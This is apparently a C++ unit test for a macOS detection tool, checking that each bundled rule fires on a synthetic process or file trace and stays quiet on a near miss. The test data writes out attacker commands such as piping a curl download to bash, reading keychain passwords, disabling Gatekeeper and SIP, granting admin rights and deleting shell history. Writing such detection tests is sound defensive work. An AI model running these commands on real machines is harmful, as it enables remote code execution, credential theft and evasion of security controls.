// The bundled rules, each alone on a small trace that must fire it and on
// one that must not: near misses of what it looks for.

#include <gtest/gtest.h>

#include <string>
#include <vector>

#include "input/temp_files.h"
#include "rules/rule_hit_sets.h"
#include "rules/rule_set.h"
#include "support/eslogger_lines.h"
#include "support/loading.h"
#include "support/log_lines.h"

namespace korvantis {
namespace {

using testsupport::EsProcess;

// (A `|` inside an arg is written \\u007c.)
// An exec of `path` by pid 100 (child of `parent`'s pid 50) with the args
// `words`, separated by `|`.
std::vector<std::string> execOf(const std::string& path, const std::string& words,
                                const std::string& parent = "/usr/bin/login") {
    std::vector<std::string> args;
    std::size_t at = 0;
    while (at <= words.size()) {
        const std::size_t bar = std::min(words.find('|', at), words.size());
        args.push_back("\"" + words.substr(at, bar - at) + "\"");
        at = bar + 1;
    }
    const EsProcess p{50, 1, parent}, child{100, 50, path};
    return {testsupport::esExec(p, {"\"parent\""}), testsupport::esExec(child, args)};
}

std::vector<std::string> createOf(const std::string& path, const std::string& by = "/bin/cp") {
    const std::size_t slash = path.rfind('/');
    return {
        testsupport::esCreate(EsProcess{70, 1, by}, path.substr(0, slash), path.substr(slash + 1))};
}

// How many rows of `lines` the rules of `file` hit.
int hitsOf(const std::string& file, const std::vector<std::string>& lines) {
    std::string error;
    const auto rules = loadRuleFiles({std::string(KORVANTIS_RULES_DIR) + "/" + file}, error);
    EXPECT_TRUE(rules && rules->rules.size() == 1) << file << error;
    testing::TempDir dir;
    testsupport::LoadingWorkspace loading;
    loading.ws.loader.setRules(rules);
    loading.load(dir.write("trace", testsupport::joinedLines(lines)));
    int hits = 0;
    const EventStore& store = loading.ws.store;
    for (std::size_t i = 0; i < store.rows(RowKind::process).size(); ++i) {
        hits += store.rows(RowKind::process).rowView(i).ruleHits != nullptr;
    }
    for (std::size_t i = 0; i < store.rows(RowKind::file).size(); ++i) {
        hits += store.rows(RowKind::file).rowView(i).ruleHits != nullptr;
    }
    return hits;
}

TEST(BundledRules, EachFiresOnItsTraceAndNotOnItsNearMiss) {
    struct Case {
        std::string file;
        std::vector<std::string> fires;
        std::vector<std::string> quiet;
    };
    const std::vector<Case> cases = {
        {"osascript_inline_script.yml",
         execOf("/usr/bin/osascript", "osascript|-e|display dialog \\\"Password\\\""),
         execOf("/usr/bin/osascript", "osascript|/Users/a/script.scpt")},
        {"osacompile_run_only.yml",
         execOf("/usr/bin/osacompile", "osacompile|-x|-e|do shell script|-o|/tmp/a.scpt"),
         execOf("/usr/bin/osacompile", "osacompile|-e|beep|-o|/tmp/a.scpt")},
        {"shell_from_browser.yml",
         execOf("/bin/zsh", "zsh|-c|id", "/Applications/Safari.app/Contents/MacOS/Safari"),
         execOf("/bin/zsh", "zsh|-c|id",
                "/System/Applications/Utilities/Terminal.app/Contents/MacOS/Terminal")},
        {"launch_agent_written.yml", createOf("/Users/a/Library/LaunchAgents/com.x.plist"),
         createOf("/Users/a/Library/LaunchAgents/readme.txt")},
        {"launch_daemon_written.yml", createOf("/Library/LaunchDaemons/com.x.plist"),
         createOf("/Library/LaunchDaemons/com.x.plist", "/usr/sbin/installer")},
        {"quarantine_removed.yml",
         execOf("/usr/bin/xattr", "xattr|-d|com.apple.quarantine|/Applications/X.app"),
         execOf("/usr/bin/xattr", "xattr|-p|com.apple.quarantine|/Applications/X.app")},
        {"gatekeeper_disabled.yml", execOf("/usr/sbin/spctl", "spctl|--master-disable"),
         execOf("/usr/sbin/spctl", "spctl|--status")},
        {"sip_disabled.yml", execOf("/usr/bin/csrutil", "csrutil|disable"),
         execOf("/usr/bin/csrutil", "csrutil|status")},
        {"hidden_program_in_shared_folder.yml", execOf("/Users/Shared/.agent", ".agent"),
         execOf("/Users/Shared/agent", "agent")},
        {"download_piped_to_shell.yml",
         execOf("/bin/bash", "bash|-c|curl -fsSL https://example.invalid/i.sh \\u007c bash"),
         execOf("/bin/bash", "bash|-c|curl -o i.sh https://example.invalid/i.sh")},
        {"base64_decoded_in_shell.yml", execOf("/usr/bin/base64", "base64|-D|-i|blob"),
         execOf("/usr/bin/base64", "base64|-i|blob")},
        {"account_made_admin.yml",
         execOf("/usr/bin/dscl", "dscl|.|-append|/Groups/admin|GroupMembership|eve"),
         execOf("/usr/bin/dscl", "dscl|.|-read|/Groups/admin")},
        {"keychain_read.yml",
         execOf("/usr/bin/security", "security|find-generic-password|-s|wifi|-w"),
         execOf("/usr/bin/security", "security|find-generic-password|-s|wifi")},
        {"login_item_added.yml",
         execOf("/usr/bin/osascript",
                "osascript|-e|tell application \\\"System Events\\\" to make login item"),
         execOf("/usr/bin/osascript",
                "osascript|-e|tell application \\\"System Events\\\" to beep")},
        {"launchctl_from_shared_folder.yml",
         execOf("/bin/launchctl", "launchctl|load|/Users/Shared/x.plist|-w"),
         execOf("/bin/launchctl", "launchctl|load|/Library/LaunchAgents/x.plist")},
        {"screen_captured_by_script.yml",
         execOf("/usr/sbin/screencapture", "screencapture|-x|/tmp/s.png", "/bin/bash"),
         execOf("/usr/sbin/screencapture", "screencapture|-x|/tmp/s.png",
                "/System/Library/CoreServices/SystemUIServer.app/Contents/MacOS/SystemUIServer")},
        {"privileged_helper_written.yml", createOf("/Library/PrivilegedHelperTools/com.x.helper"),
         createOf("/Library/Application Support/PrivilegedHelperTools/x")},
        {"cron_job_written.yml", createOf("/private/var/at/tabs/eve"),
         createOf("/private/var/at/jobs/eve")},
        {"disk_image_attached.yml", execOf("/usr/bin/hdiutil", "hdiutil|attach|/tmp/x.dmg"),
         execOf("/usr/bin/hdiutil", "hdiutil|info")},
        {"kernel_extension_loaded.yml", execOf("/usr/bin/kmutil", "kmutil|load|-p|/tmp/x.kext"),
         execOf("/usr/bin/kmutil", "kmutil|showloaded")},
        {"ssh_keys_written.yml", createOf("/Users/eve/.ssh/authorized_keys"),
         createOf("/Users/eve/.ssh/known_hosts")},
        {"shell_history_removed.yml", execOf("/bin/rm", "rm|-f|/Users/eve/.zsh_history"),
         execOf("/bin/rm", "rm|-f|/Users/eve/notes.txt")},
        {"privacy_permissions_reset.yml", execOf("/usr/bin/tccutil", "tccutil|reset|All"),
         execOf("/usr/bin/tccutil", "tccutil|--help")},
    };
    EXPECT_GE(cases.size(), 20u);
    for (const Case& c : cases) {
        EXPECT_EQ(hitsOf(c.file, c.fires), 1) << c.file;
        EXPECT_EQ(hitsOf(c.file, c.quiet), 0) << c.file;
    }
    // Every bundled rule has its case.
    std::string error;
    const auto all = loadRuleFiles({KORVANTIS_RULES_DIR}, error);
    ASSERT_TRUE(all);
    EXPECT_EQ(all->rules.size(), cases.size());
    for (const RuleEntry& e : all->entries) {
        EXPECT_TRUE(e.loaded && e.neverPresent.empty()) << e.reportLine();
    }
}

}  // namespace
}  // namespace korvantis
